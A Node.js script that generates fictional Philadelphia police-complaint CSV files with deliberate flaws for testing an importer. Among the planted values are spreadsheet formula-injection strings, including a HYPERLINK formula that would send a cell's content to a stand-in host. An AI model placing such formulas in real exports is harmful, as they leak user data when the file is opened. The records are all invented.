#!/usr/bin/env node
/**
 * Makes a sample of complaint records in the layout of the files that Philadelphia publishes, with their
 * warts and with a few rows that an importer must refuse. Nobody and nothing in it exists.
 *
 * The same seed and size give the same bytes. Each file is a chain of generators that is piped to disk, so
 * the memory needed does not grow with `--complaints`. To add a wart, append an entry to one of the
 * PLANTED tables: what it is, what it does to the rows of one complaint, and why the row must be rejected
 * (if it must). The entry's function may return the rows that it touched; by default that is the first one.
 */
import { createWriteStream, realpathSync } from 'node:fs';
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { pipeline } from 'node:stream/promises';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';

const SELF = fileURLToPath(import.meta.url);
const DEFAULTS = {
  seed: 20260101,
  complaints: 150,
  out: fileURLToPath(new URL('philadelphia', import.meta.url)),
};
const HELP = `Usage: node samples/generate.mjs [options]

  --seed <n>        whole number that decides every choice (default ${DEFAULTS.seed})
  --complaints <n>  rows in complaints_against_police.csv, at least 150 (default ${DEFAULTS.complaints});
                    the other two files grow with it
  --out <folder>    where the three files go (default samples/philadelphia)
  --summary         print the expected sums and the rows of each wart as JSON
  --help            print this
`;

// ---------------------------------------------------------------------------------------- vocabulary

const COMPLAINTS = 'complaints_against_police.csv';
const YEAR_2015 = 'complaints_2015.csv';
const FINDINGS = 'complaints.against.police.findings.csv';

const HEADERS = {
  [COMPLAINTS]: 'complaint_id date_received district_occurrence general_cap_classification summary',
  [YEAR_2015]:
    'complaint_id officer_initials po_race po_sex allegations_investigated investigative_findings ' +
    'disciplinary_findings po_assigned_unit po_district_number officer_id officer_complaint_id ' +
    'discipline_id date_received district_occurrence general_cap_classification summary shortened_summary',
  [FINDINGS]:
    'complaint_id officer_id po_race po_sex po_assigned_unit allegations_investigated ' +
    'investigative_findings disciplinary_findings',
};
const columnsOf = (file) => HEADERS[file].split(' ');

/** Year, the share of the complaints received up to its end, and its days. The last year breaks off in March. */
const YEARS = [
  [2016, 0.2, 366],
  [2017, 0.39, 365],
  [2018, 0.575, 365],
  [2019, 0.775, 365],
  [2020, 0.97, 366],
  [2021, 1, 63],
];
/** Above the numbers that the city gave out in any year, so that a sample never meets a real complaint. */
const FIRST_NUMBER = 1001;

/** Classification, weight, the allegation it leads to, and what is told about it. */
const CATEGORIES = [
  [
    'DEPARTMENTAL VIOLATIONS',
    26,
    'Departmental Violation',
    [
      'an officer parked the patrol car across a hydrant and walked off for an hour',
      'the number on the badge was covered with tape',
      'the camera on the uniform was switched off before they could speak',
    ],
  ],
  [
    'LACK OF SERVICE',
    22,
    'Lack of Service',
    [
      'nobody came after three calls about a broken shop window',
      'the desk would not write down a stolen bicycle',
      'a promised report never reached the insurer',
    ],
  ],
  [
    'PHYSICAL ABUSE',
    16,
    'Physical Abuse',
    [
      'an officer pushed them against a parked van although they stood still',
      'their wrist was twisted while the handcuffs were already on',
      'they were dragged out of a doorway by the collar',
    ],
  ],
  [
    'VERBAL ABUSE',
    10,
    'Verbal Abuse',
    [
      'an officer shouted at them in front of the whole queue',
      'they were mocked for the way they speak',
      'an officer cursed at them over the loudspeaker of the car',
    ],
  ],
  [
    'UNPROFESSIONAL CONDUCT',
    8,
    'Unprofessional Conduct',
    [
      'an officer laughed while they were describing a burglary',
      'an officer took private calls during the whole interview',
    ],
  ],
  [
    'HARASSMENT',
    5,
    'Harassment',
    [
      'the same patrol stopped them on six mornings in a row',
      'an officer keeps waiting in front of their workshop without a reason',
    ],
  ],
  [
    'NON-INVESTIGATORY INCIDENT',
    4,
    'No C.A.P. Investigation',
    [
      'a parking ticket was written for the wrong side of the road',
      'they disagree with the fine for a broken tail light',
    ],
  ],
  [
    'CRIMINAL ALLEGATION',
    4,
    'Criminal Allegation',
    [
      'a wallet was lighter when it came back from the property desk',
      'an officer asked for money to forget a summons',
    ],
  ],
  [
    'CIVIL RIGHTS COMPLAINT',
    3,
    'Civil Rights Complaint',
    ['they alone were searched in a group of eight travellers', 'an interpreter was refused to them'],
  ],
  ['DOMESTIC', 2, 'Domestic', ['an officer used the patrol car to look for a former partner']],
  ['FALSIFICATION', 1, 'Falsification', ['the report names a witness who was abroad that week']],
  [
    'SEXUAL CRIME/MISCONDUCT',
    1,
    'Sexual Crime/Misconduct',
    ['an officer sent them unwanted pictures after a traffic stop'],
  ],
  ['DRUGS', 0, 'Drugs', ['an officer was seen buying pills behind a gymnasium']],
  ['USE OF FORCE INTERNAL', 0, 'Physical Abuse', ['a colleague was struck during a training evening']],
];
const CATEGORY_WEIGHTS = CATEGORIES.map((category) => [category, category[1]]);

const ALLEGATIONS = [
  ['Departmental Violation', 38],
  ['Lack of Service', 17],
  ['Physical Abuse', 10],
  ['Verbal Abuse', 10],
  ['Unprofessional Conduct', 7],
  ['Investigation OnGoing', 7],
  ['Harassment', 3],
  ['No C.A.P. Investigation', 2],
  ['Civil Rights Complaint', 2],
  ['Criminal Allegation', 2],
  ['Referred to Other Agency/C.A.P. Investigation', 1],
  ['Domestic', 1],
];
const RARE_ALLEGATIONS = [
  'Falsification',
  'Sexual Crime/Misconduct',
  'Other Misconduct',
  'Disciplinary Code Violation',
  'Drugs',
];
/** Allegations that are no allegation but a state, and so decide the outcome. */
const STATES = {
  'Investigation OnGoing': ['Pending', 'Pending'],
  'No C.A.P. Investigation': ['Not Applicable', 'Not Applicable'],
};
const OUTCOMES = [
  [['No Sustained Findings', 'Not Applicable'], 75],
  [['Sustained Finding', 'Pending'], 12],
  [['Sustained Finding', 'Training/Counseling'], 9],
  [['Sustained Finding', 'Guilty Finding'], 3],
  [['Sustained Finding', 'No Guilty Findings'], 1],
];

const RACES = [
  ['white', 57],
  ['black', 29],
  ['latino', 9],
  ['asian', 3],
  ['other', 1],
  ['indian', 1],
];
const DISTRICTS = [1, 2, 3, 5, 6, 7, 8, 9, 12, 14, 15, 16, 17, 18, 19, 22, 24, 25, 26, 35, 39];
const OTHER_UNITS = [
  '5300 HIGHWAY PATROL',
  '5200 TRAFFIC DISTRICT',
  '7700 AIRPORT',
  '4601 S.W.A.T.',
  '4902 DETENTION ROOM',
  '6400 NORTHEAST DET',
  '4500 CENTER CITY DISTRIC',
  '9807 SUMMER INITIATIVE',
];

const TELLERS = [
  'A baker',
  'A bus passenger',
  'A student',
  'A night nurse',
  'A street musician',
  'A landlord',
  'A delivery rider',
  'A retired teacher',
  'A tourist',
  'A florist',
  'A parent',
  'An off-duty officer',
];
const PLACES = [
  'near the old ropewalk',
  'outside the Larkspur Street laundry',
  'at the corner of Quince Row and Mill Bend',
  'in the yard of a tile factory',
  'behind the puppet theatre',
  'on the ferry landing',
  'beside the Heron Park tennis courts',
];
const DETAILS = [
  'A neighbour filmed part of it from a balcony and is willing to hand over the recording.',
  'When asked for a name; the officer pointed at the badge and turned away.',
  'The complainant went to a walk-in clinic the next morning and kept the bill.',
  'Two unknown officers stood by and did nothing to help.',
  'One of them said, "You can write to whoever you like," and drove off.',
  'The complainant was told that the form had run out and to come back on Thursday.',
  'Nobody has called back since, although a file number was promised at Quince & Mill.',
  'A supervisor arrived, listened for about a minute and called it "a cr*p waste of time."',
];

const OFFICERS_PER_COMPLAINT = [
  [1, 54],
  [2, 29],
  [3, 10],
  [4, 5],
  [6, 2],
];
const ALLEGATIONS_PER_OFFICER = [
  [1, 80],
  [2, 14],
  [3, 6],
];

// -------------------------------------------------------------------------------------------- chance

/** Seeded choice (mulberry32). */
class Dice {
  constructor(seed) {
    this.state = seed >>> 0;
  }
  next() {
    this.state = (this.state + 0x6d2b79f5) | 0;
    let t = Math.imul(this.state ^ (this.state >>> 15), 1 | this.state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }
  /** From low to high, both included. */
  int(low, high) {
    return low + Math.floor(this.next() * (high - low + 1));
  }
  chance(share) {
    return this.next() < share;
  }
  pick(list) {
    return list[this.int(0, list.length - 1)];
  }
  weighted(pairs) {
    let left = this.next() * pairs.reduce((sum, [, weight]) => sum + weight, 0);
    return pairs.find(([, weight]) => (left -= weight) < 0)[0];
  }
}

// ------------------------------------------------------------------------------------- parts of a row

const pad = (number, width) => String(number).padStart(width, '0');
const DAY = 86_400_000;
const isoDay = (time) => new Date(time).toISOString().slice(0, 10);
const daysAfter = (date, days) => isoDay(Date.parse(date) + days * DAY);

/** The narratives write 2016-03-09 as 3-9-16. */
function spoken(date) {
  const [year, month, day] = date.split('-').map(Number);
  return `${month}-${day}-${pad(year % 100, 2)}`;
}

function ordinal(number) {
  const teen = number > 10 && number < 14;
  return number + ((!teen && ['th', 'st', 'nd', 'rd'][number % 10]) || 'th');
}

const unitOf = (district) =>
  `${pad(district, 2)}00 ${ordinal(district).padStart(4, '0').toUpperCase()} DISTRICT`;
const initials = (dice) => String.fromCharCode(dice.int(65, 90), dice.int(65, 90));

/** Worked out from its index, so that no list of officers is kept. The published numbers never begin with 0. */
function officerAt(seed, index) {
  const dice = new Dice(seed + Math.imul(index + 1, 0x9e3779b1));
  return {
    officer_id: pad((index * 7_368_787 + 1_234_567) % 10_000_000, 8),
    po_race: dice.weighted(RACES),
    po_sex: dice.chance(0.15) ? 'female' : 'male',
    po_assigned_unit: dice.chance(0.75) ? unitOf(dice.pick(DISTRICTS)) : dice.pick(OTHER_UNITS),
    officer_initials: initials(dice),
  };
}

/** A few officers turn up often, most once or twice. */
function someOfficer(dice, { seed, complaints }) {
  const index = Math.floor(dice.next() ** 1.6 * complaints * 0.9);
  const { officer_initials, ...officer } = officerAt(seed, index);
  if (dice.chance(0.08)) officer.po_assigned_unit = unitOf(dice.pick(DISTRICTS));
  return { officer_initials: dice.chance(0.08) ? initials(dice) : officer_initials, ...officer };
}
const NO_OFFICER = { officer_id: 'NA', po_race: 'NA', po_sex: 'NA', po_assigned_unit: 'NA' };

function someAllegation(dice, own) {
  const allegations_investigated = dice.chance(0.5) ? own : dice.weighted(ALLEGATIONS);
  const outcome = STATES[allegations_investigated] ?? dice.weighted(OUTCOMES);
  return { allegations_investigated, investigative_findings: outcome[0], disciplinary_findings: outcome[1] };
}

/** `width`: columns written, all by default. `alone`: has no findings. `late`: written after rows that follow it. */
const row = (cells) => ({ cells, warts: [], reject: undefined, width: undefined, alone: false, late: false });
const copyOf = (other) => row({ ...other.cells });

// ---------------------------------------------------------------------------------------- narratives

function hour(dice) {
  const time = `${dice.int(1, 12)}:${pad(dice.int(0, 11) * 5, 2)}`;
  return dice.chance(0.6) ? time + dice.pick(['am', 'pm']) : time + dice.pick([' AM', ' PM']);
}

function shortNarrative(dice, deed, district, received) {
  const day = spoken(daysAfter(received, -dice.int(0, 60)));
  const when = dice.chance(0.08) ? '' : ` on ${day}${dice.chance(0.8) ? ` at ${hour(dice)}` : ''},`;
  const force = dice.chance(0.6) ? `; the car belonged to the ${ordinal(district)} District` : '';
  return `${dice.pick(TELLERS)} reports that${when} ${deed} ${dice.pick(PLACES)}${force}.`;
}

/** The 2015 file writes longer, with initials, age, race and sex, two blanks after a sentence and one at the end. */
function longNarrative(dice, deed, day, time) {
  const person = `${initials(dice)}, ${dice.int(19, 78)}/${dice.pick(['W', 'B', 'A', 'H'])}/${dice.pick(['F', 'M'])}`;
  const officers = `Officer ${initials(dice)}${dice.chance(0.2) ? ' and S.B.' : ''}`;
  const details = Array.from({ length: dice.int(1, 4) }, () => dice.pick(DETAILS));
  const first = `Complaint by ${person}, about ${officers}: on ${day}, at ${time}, ${deed} ${dice.pick(PLACES)}.`;
  return [first, ...new Set(details)].join('  ') + (dice.chance(0.7) ? ' ' : '');
}

// -------------------------------------------------------------------------------------- planted warts

const set = (cells) => (rows) => void rows.forEach((one) => Object.assign(one.cells, cells));
const setFirst = (cells) => (rows) => set(cells)(rows.slice(0, 1));
const added = (rows, ...more) => (rows.push(...more), more);
const again = (times) => (rows) => added(rows, ...Array.from({ length: times }, () => copyOf(rows[0])));
const variant = (cells) => (rows) =>
  added(rows, Object.assign(copyOf(rows[0]), { cells: { ...rows[0].cells, ...cells } }));
const steps =
  (...all) =>
  (rows, dice, options) =>
    all.map((step) => step(rows, dice, options)).at(-1);

const incident = (rows, days) => spoken(daysAfter(rows[0].cells.date_received, days));
/** `{day}` stands for the day of the incident. */
const text =
  (summary, days = -3) =>
  (rows) =>
    set({ summary: summary.replace('{day}', incident(rows, days)) })(rows);
const category = (name) => (rows) => {
  const deeds = CATEGORIES.find(([other]) => other === name)[3];
  set({ general_cap_classification: name, summary: `A clerk reports that, in short, ${deeds[0]}.` })(rows);
};
const onNewYearsEve = (rows) =>
  set({ date_received: `20${rows[0].cells.complaint_id.slice(0, 2)}-12-31` })(rows);
const withoutFindings = ([only]) => void (only.alone = true);
const SAME_WORDS = 'A street musician reports that, once again, a permit was torn up on the ferry landing.';

const PLANTED_COMPLAINTS = [
  [
    'two commas in a row',
    text('A bus passenger reports that on {day} at about 5:05am,, the driver was waved into a closed lane.'),
  ],
  [
    'doubled quotes',
    text('A student reports that on {day}, an officer known as "Boots" said: "go home, all of you".'),
  ],
  [
    'line break inside quotes',
    text(
      'A landlord reports that on {day}, a door was forced without a paper.\nThe lock, and the frame, are still broken.',
    ),
  ],
  [
    'line break before the closing quote',
    text(
      'A tourist reports that on {day}, directions were refused.\nThe tourist, who is deaf, had written the question down.\n',
    ),
  ],
  [
    'C1 control characters for curly quotes and dots (Windows-1252 read as Latin-1)',
    text(
      'A parent reports that on {day}, the officer\x92s answer was, \x93wait \x85 or leave,\x94 and then \x91no\x92.',
    ),
  ],
  [
    'summary without a comma, so without quotes',
    text('A florist reports that an officer blocked the shop door for a whole afternoon.'),
  ],
  [
    'Chinese text',
    text('投诉人称，4月2日晚9时许，两名警员在渡口拦下他的自行车，拒绝说明理由,并说"别多问"。'),
  ],
  [
    'Chinese text, a character outside the basic plane',
    text('報案人姓𠮷，三次撥打電話，無人到場；她要求書面答覆。'),
  ],
  ['leading = (formula)', text('=HYPERLINK("https://example.invalid/?x="&A1,"open the report")')],
  ['leading @ (formula)', text('@SUM(1,1) is what the complainant typed into the form, nothing else.')],
  ['leading + (formula)', text('+1+1 officers came, then two more, and none of them took notes.')],
  ['leading - (formula)', text('-1 star, writes the complainant: on {day}, nobody came.')],
  [
    'emoji',
    text('A delivery rider reports that on {day}, the officer answered with 👍🏽 and 🚓, not with words.'),
  ],
  [
    'no year in the narrative',
    text('A retired teacher reports that on 12-24- a call about a fire was put on hold, twice.'),
  ],
  [
    'four-digit year in the narrative',
    text('A night nurse reports that on 12-16-2015, a taxi was towed with the patient in it.'),
  ],
  [
    'unknown day in the narrative',
    text('Tenants report that, on days unknown to them, the same car idles under their window.'),
  ],
  ['blank at the end', text('A baker reports that on {day}, flour was spilled, stepped in and laughed at. ')],
  [
    'two full stops, &, parentheses, masked word',
    text(
      'A tourist reports that on {day} (a holiday), officers of the A.I.D. & the 9th called him a d*mn fool, unit A.I.D..',
    ),
  ],
  [
    'does not begin with the person',
    text('On the towpath, without any reason given, a tent was cut open; the file says "unknown officers".'),
  ],
  ['same words as another complaint', text(SAME_WORDS)],
  ['same words as another complaint', text(SAME_WORDS)],
  ['incident after the date received', text('A student reports that on {day}, an umbrella was kicked.', 12)],
  [
    'incident years before the date received',
    text('A parent reports that on {day}, a file was lost.', -2900),
  ],
  ['district N/A', set({ district_occurrence: 'N/A' })],
  ['district Other Jurisdiction', set({ district_occurrence: 'Other Jurisdiction' })],
  ['district with two digits (09 for 0900)', set({ district_occurrence: '09' })],
  ['district that is a unit (7700, the airport)', set({ district_occurrence: '7700' })],
  ['rare category', category('DRUGS')],
  ['rare category', category('USE OF FORCE INTERNAL')],
  ['rare category', category('SEXUAL CRIME/MISCONDUCT')],
  ['rare category', category('FALSIFICATION')],
  ['received on 31 December, as many are', onNewYearsEve],
  ['complaint without findings', withoutFindings],
  ['complaint without findings', withoutFindings],
  ['impossible date', set({ date_received: '2017-02-30' }), 'date_received is not a date'],
  ['no complaint id', set({ complaint_id: '' }), 'complaint_id is missing'],
  [
    'unknown category',
    set({ general_cap_classification: 'MISUSE OF PARKING PLACARD' }),
    'general_cap_classification is unknown',
  ],
];

const judged = (allegations_investigated, investigative_findings, disciplinary_findings) => ({
  allegations_investigated,
  investigative_findings,
  disciplinary_findings,
});
const VALUE_ERROR = judged('#VALUE!', '#VALUE!', '#VALUE!');
const NO_INVESTIGATION = judged('No C.A.P. Investigation', 'Not Applicable', 'Not Applicable');
const ONGOING = judged('Investigation OnGoing', 'Pending', 'Pending');
const LACK_DENIED = judged('Lack of Service', 'No Sustained Findings', 'Not Applicable');
const LACK_FOUND = judged('Lack of Service', 'Sustained Finding', 'Training/Counseling');

const known = (rows, dice, options) => setFirst(someOfficer(dice, options))(rows);
const alone = (rows) => void (rows.length = 1);
const cut = (rows) => void (rows.at(-1).width = 5);
const last = (rows) => rows.slice(-1);

function manyRows(rows, dice, options) {
  const crew = Array.from({ length: 6 }, () => someOfficer(dice, options));
  const more = Array.from({ length: 20 }, () => copyOf(rows[0]));
  more.forEach(({ cells }, i) =>
    Object.assign(cells, crew[i % 6], someAllegation(dice, ALLEGATIONS[i % 4][0])),
  );
  return added(rows, ...more);
}

const PLANTED_FINDINGS = [
  ['officer NA, and so is everything about the officer', steps(alone, set(NO_OFFICER))],
  ['officer NA beside a known officer', steps(known, variant(NO_OFFICER))],
  ['officer NA, row repeated exactly', steps(setFirst(NO_OFFICER), again(1))],
  ['officer known, unit NA', steps(known, setFirst({ po_assigned_unit: 'NA' }))],
  ['#VALUE! in three columns', steps(known, setFirst(VALUE_ERROR))],
  ['#VALUE! in three columns', steps(known, setFirst(VALUE_ERROR))],
  ['same row five times', steps(known, again(4))],
  ['more than 20 rows for one complaint', manyRows],
  ['same officer and allegation, another outcome', steps(known, setFirst(LACK_DENIED), variant(LACK_FOUND))],
  [
    'same officer, another race and sex',
    steps(
      known,
      setFirst({ po_race: 'white', po_sex: 'male' }),
      variant({ po_race: 'other', po_sex: 'female' }),
    ),
  ],
  ['same officer, another unit', steps(known, variant({ po_assigned_unit: '5400 AID' }))],
  ['unit in title case', steps(known, setFirst({ po_assigned_unit: '1200 12th District' }))],
  [
    'unit code with two names, one cut short',
    steps(
      known,
      setFirst({ po_assigned_unit: '6702 SPECIAL VICTIMS UNI' }),
      variant({ po_assigned_unit: '6702 Special Victims Unit' }),
    ),
  ],
  [
    'sustained, yet Not Applicable as discipline',
    steps(known, setFirst(judged('Harassment', 'Sustained Finding', 'Not Applicable'))),
  ],
  [
    'sustained, then No Guilty Findings',
    steps(known, setFirst(judged('Harassment', 'Sustained Finding', 'No Guilty Findings'))),
  ],
  [
    'sustained, then Guilty Finding',
    steps(known, setFirst(judged('Verbal Abuse', 'Sustained Finding', 'Guilty Finding'))),
  ],
  ['not investigated, yet the officer is known', steps(known, setFirst(NO_INVESTIGATION))],
  ['rare race of an officer', steps(known, setFirst({ po_race: 'indian' }))],
  ['rare race of an officer', steps(known, setFirst({ po_race: 'asian' }))],
  ...RARE_ALLEGATIONS.map((name) => ['rare allegation', setFirst({ allegations_investigated: name })]),
  [
    'complaint does not exist',
    steps(known, variant({ complaint_id: '19-0999' })),
    'complaint_id matches no complaint',
  ],
  ['too few columns', steps(variant(LACK_DENIED), cut, last), 'too few columns'],
];

const PLANTED_2015 = [
  [
    'accents and fractions',
    text(
      'Complaint by EQ, 31/H/F, about an unknown officer: on {day}, her fiancé waited 2½ hours, for nothing. ',
    ),
  ],
  [
    'initials of the complainant are NA',
    text('Complaint by NA, 44/B/M, about Officer TT: on {day}, he was, he says, refused a receipt.  '),
  ],
  ['officer initials missing (empty)', setFirst({ officer_initials: '' })],
  ['officer initials with a leading blank', setFirst({ officer_initials: ' D' })],
  ['district N/A', set({ district_occurrence: 'N/A' })],
  [
    'district number of the officer NA',
    setFirst({ po_assigned_unit: '5300 HIGHWAY PATROL', po_district_number: 'NA' }),
  ],
  [
    'district number of the officer is a unit',
    setFirst({ po_assigned_unit: '5200 TRAFFIC DISTRICT', po_district_number: '52' }),
  ],
  ['same discipline_id, another outcome', steps(setFirst(LACK_DENIED), relink, variant(LACK_FOUND))],
  ['same row three times', again(2)],
  [
    'quote at the end, # in the text',
    text(
      'Complaint by OV, 52/W/F, about badge #XXXX: on {day}, she was told, "Not my street, not my problem."',
    ),
  ],
  [
    'line break inside quotes',
    steps(
      alone,
      text(
        'Complaint by UK, 27/A/M, about Officer PL: on {day}, he was stopped.\nHe adds: "no reason, none".',
      ),
    ),
  ],
  ['pending since 2015', steps(setFirst(ONGOING), relink)],
];

/** Applies the wart whose turn it is: from the `first` complaint on, every `step`-th gets the next one of the table. */
function plant(table, { index, first, step }, rows, dice, options) {
  const [wart, apply, reject] = ((index - first) % step === 0 && table[(index - first) / step]) || [];
  if (!wart) return;
  const [touched] = apply(rows, dice, options) ?? rows;
  touched.warts.push(wart);
  touched.reject = reject;
}

// ------------------------------------------------------------------------------------- the three files

/** The n-th complaint of all: its year, its number in the year and how far the year has gone. */
function* numbered(total) {
  let [current, number] = [undefined, FIRST_NUMBER];
  for (let index = 0; index < total; index++) {
    const share = (index + 0.5) / total;
    const at = YEARS.findIndex(([, until]) => share < until);
    const [year, end, days] = YEARS[at];
    const start = at === 0 ? 0 : YEARS[at - 1][1];
    if (year !== current) [current, number] = [year, FIRST_NUMBER];
    if (year === 2017 && number === FIRST_NUMBER + 10) number++; // one number of 2017 was never given out
    yield { index, year, days, number: number++, passed: (share - start) / (end - start) };
  }
}

function receivedOn(dice, { year, passed, days }) {
  if (days > 63 && dice.chance(0.02)) return `${year}-12-31`;
  const day = Math.floor(passed * days) + dice.int(-9, 9);
  return daysAfter(`${year}-01-01`, Math.min(Math.max(day, 0), days - 1));
}

function* complaintRows(options) {
  const dice = new Dice(options.seed);
  for (const place of numbered(options.complaints)) {
    const [name, , , deeds] = dice.weighted(CATEGORY_WEIGHTS);
    const district = dice.pick(DISTRICTS);
    const date_received = receivedOn(dice, place);
    const only = row({
      complaint_id: `${place.year % 100}-${place.number}`,
      date_received,
      district_occurrence: dice.chance(0.03) ? 'N/A' : `${pad(district, 2)}00`,
      general_cap_classification: name,
      summary: shortNarrative(dice, dice.pick(deeds), district, date_received),
    });
    plant(PLANTED_COMPLAINTS, { index: place.index, first: 4, step: 3 }, [only], dice, options);
    only.late = dice.chance(0.03);
    yield only;
  }
}

/** One row per officer and allegation; some rows are there twice, at once or after the others of the complaint. */
function findingsOf({ cells: { complaint_id, general_cap_classification } }, dice, options) {
  const own = CATEGORIES.find(([name]) => name === general_cap_classification)[2];
  const rows = [];
  for (let officers = dice.weighted(OFFICERS_PER_COMPLAINT); officers > 0; officers--) {
    const officer = dice.chance(0.08) ? NO_OFFICER : someOfficer(dice, options);
    for (let count = dice.weighted(ALLEGATIONS_PER_OFFICER); count > 0; count--) {
      rows.push(row({ complaint_id, ...officer, ...someAllegation(dice, own) }));
      if (dice.chance(0.04)) rows.push(copyOf(rows.at(-1)));
    }
  }
  if (dice.chance(0.04)) rows.push(copyOf(rows[0]));
  return rows;
}

/** Late are either all findings of a complaint or its last one; a repeat never comes before the row it repeats. */
function postpone(rows, dice) {
  const all = dice.chance(0.03);
  const last = dice.chance(0.03);
  rows.forEach((one, i) => (one.late = all || (last && i === rows.length - 1)));
}

function* findingRows(options) {
  const dice = new Dice(options.seed + 1);
  let index = 0;
  for (const complaint of complaintRows(options)) {
    if (complaint.reject || complaint.alone) continue;
    const rows = findingsOf(complaint, dice, options);
    plant(PLANTED_FINDINGS, { index: index++, first: 3, step: 5 }, rows, dice, options);
    postpone(rows, dice);
    yield* markRepeats(rows, columnsOf(FINDINGS));
  }
}

/** Rebuilds the two joined ids of the first row from their parts. */
function relink([{ cells }]) {
  cells.officer_complaint_id = `${cells.complaint_id}-${cells.officer_id}`;
  cells.discipline_id = `${cells.officer_complaint_id}-${cells.allegations_investigated}`;
}

function officerRow2015(shared, own, dice, options) {
  const officer = someOfficer(dice, options);
  if (dice.chance(0.03)) officer.officer_initials = '';
  const inDistrict = /^(\d\d)00 .*DISTRICT$/.exec(officer.po_assigned_unit);
  const one = row({
    ...shared,
    ...officer,
    ...someAllegation(dice, own),
    po_district_number: inDistrict ? String(Number(inDistrict[1])) : 'NA',
  });
  relink([one]);
  return one;
}

/** What all rows of one complaint of 2015 have in common. */
function complaint2015(number, passed, [name, , , deeds], dice) {
  const district = dice.pick(DISTRICTS);
  const day = Math.min(Math.max(90 + Math.floor(passed * 270) + dice.int(-6, 6), 90), 364);
  const date_received = dice.chance(0.04) ? '2015-12-31' : daysAfter('2015-01-01', day);
  const on = spoken(daysAfter(date_received, -dice.int(0, 40)));
  const [deed, time] = [dice.pick(deeds), hour(dice)];
  return {
    complaint_id: `15-${number}`,
    date_received,
    district_occurrence: dice.chance(0.04) ? 'N/A' : String(district),
    general_cap_classification: name,
    summary: longNarrative(dice, deed, on, time.toUpperCase()),
    shortened_summary: `In short, on ${on} at ${time.toLowerCase()}, ${deed} (${ordinal(district)} District).`,
  };
}

function* rows2015(options) {
  const dice = new Dice(options.seed + 2);
  const wanted = Math.round(options.complaints * 0.4);
  for (let index = 0, done = 0; done < wanted || index < 2 * PLANTED_2015.length; index++) {
    const kind = dice.weighted(CATEGORY_WEIGHTS);
    const shared = complaint2015(FIRST_NUMBER + index, done / wanted, kind, dice);
    const officers = dice.weighted(OFFICERS_PER_COMPLAINT);
    const rows = Array.from({ length: officers }, () => officerRow2015(shared, kind[2], dice, options));
    if (dice.chance(0.06)) rows.push(copyOf(rows[0]));
    plant(PLANTED_2015, { index, first: 1, step: 2 }, rows, dice, options);
    done += rows.length;
    yield* markRepeats(rows, columnsOf(YEAR_2015));
  }
}

// -------------------------------------------------------------------------------------------- output

/** Quotes where it must, as the published files do. */
const cell = (value) => (/[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value);
const lineOf = (one, columns) =>
  columns
    .slice(0, one.width)
    .map((name) => cell(one.cells[name]))
    .join(',') + '\n';

/** Marks each row that equals an earlier one. Rows with an id only repeat inside their complaint. */
function markRepeats(rows, columns) {
  const seen = new Set();
  for (const one of rows) {
    const line = lineOf(one, columns);
    one.repeat = seen.has(line);
    seen.add(line);
  }
  return rows;
}

/** Holds late rows back while others pass, in the order in which they came and never more than 50 at once. */
function* outOfOrder(rows, dice) {
  const held = [];
  for (const one of rows) {
    if (one.late) held.push(one);
    else yield one;
    if (held.length === 50 || (held.length > 0 && dice.chance(0.04))) yield held.shift();
  }
  yield* held;
}

function note(counts, one, line) {
  const place = { row: counts.rows + 1, line };
  if (one.repeat) counts.exactRepeats++;
  if (one.reject) counts.rejects.push({ ...place, reason: one.reject });
  const warts = [
    ...one.warts,
    ...(one.repeat ? ['exact repeat'] : []),
    ...(one.late ? ['written late, so out of order'] : []),
  ];
  for (const wart of warts) {
    const places = (counts.warts[wart] ??= []);
    if (places.length < 3) places.push(place.row);
  }
}

/** The lines of one file. Rows are counted as a spreadsheet does: the header is row 1. */
function* linesOf(file, rows, counts) {
  const columns = columnsOf(file);
  yield columns.join(',') + '\n';
  let line = 2;
  for (const one of rows) {
    const written = lineOf(one, columns);
    counts.rows++;
    note(counts, one, line);
    line += written.split('\n').length - 1;
    yield written;
  }
}

async function writeFile(file, rows, out) {
  const counts = { rows: 0, exactRepeats: 0, rejects: [], warts: {} };
  await pipeline(Readable.from(linesOf(file, rows, counts)), createWriteStream(join(out, file)));
  return { file, ...counts };
}

/** Expected sums by file, the rows to reject, and the first rows of each wart. */
function summarise(written) {
  const byFile = (value) => Object.fromEntries(written.map((counts) => [counts.file, value(counts)]));
  return {
    files: byFile(({ rows, exactRepeats, rejects }) => ({ rows, exactRepeats, toReject: rejects.length })),
    rejects: byFile(({ rejects }) => rejects),
    warts: byFile(({ warts }) => warts),
  };
}

/** Writes the three files and returns their summary. */
export async function generate(wanted = {}) {
  const options = { ...DEFAULTS, ...wanted };
  await mkdir(options.out, { recursive: true });
  const jumbled = (rows, salt) => outOfOrder(rows, new Dice(options.seed + salt));
  const written = [
    await writeFile(COMPLAINTS, jumbled(complaintRows(options), 3), options.out),
    await writeFile(YEAR_2015, rows2015(options), options.out),
    await writeFile(FINDINGS, jumbled(findingRows(options), 4), options.out),
  ];
  return { seed: options.seed, complaints: options.complaints, ...summarise(written) };
}

function wholeNumber(name, value, least) {
  const number = Number(value);
  if (!/^\d+$/.test(value) || !Number.isSafeInteger(number) || number < least) {
    throw new Error(`--${name} must be a whole number, at least ${least}`);
  }
  return number;
}

function readArguments(args) {
  const { values } = parseArgs({
    args,
    options: {
      seed: { type: 'string', default: String(DEFAULTS.seed) },
      complaints: { type: 'string', default: String(DEFAULTS.complaints) },
      out: { type: 'string', default: DEFAULTS.out },
      summary: { type: 'boolean', default: false },
      help: { type: 'boolean', default: false },
    },
  });
  const [seed, complaints] = [
    wholeNumber('seed', values.seed, 0),
    wholeNumber('complaints', values.complaints, 150),
  ];
  return { ...values, seed, complaints };
}

async function main(args) {
  const { help, summary, ...options } = readArguments(args);
  if (help) return void process.stdout.write(HELP);
  const result = await generate(options);
  if (summary) return void process.stdout.write(JSON.stringify(result, null, 2) + '\n');
  for (const [file, { rows }] of Object.entries(result.files)) console.log(`${file}: ${rows} rows`);
}

if (process.argv[1] && realpathSync(process.argv[1]) === SELF) {
  main(process.argv.slice(2)).catch((error) => {
    console.error(`generate: ${error.message}`);
    process.exitCode = 1;
  });
}
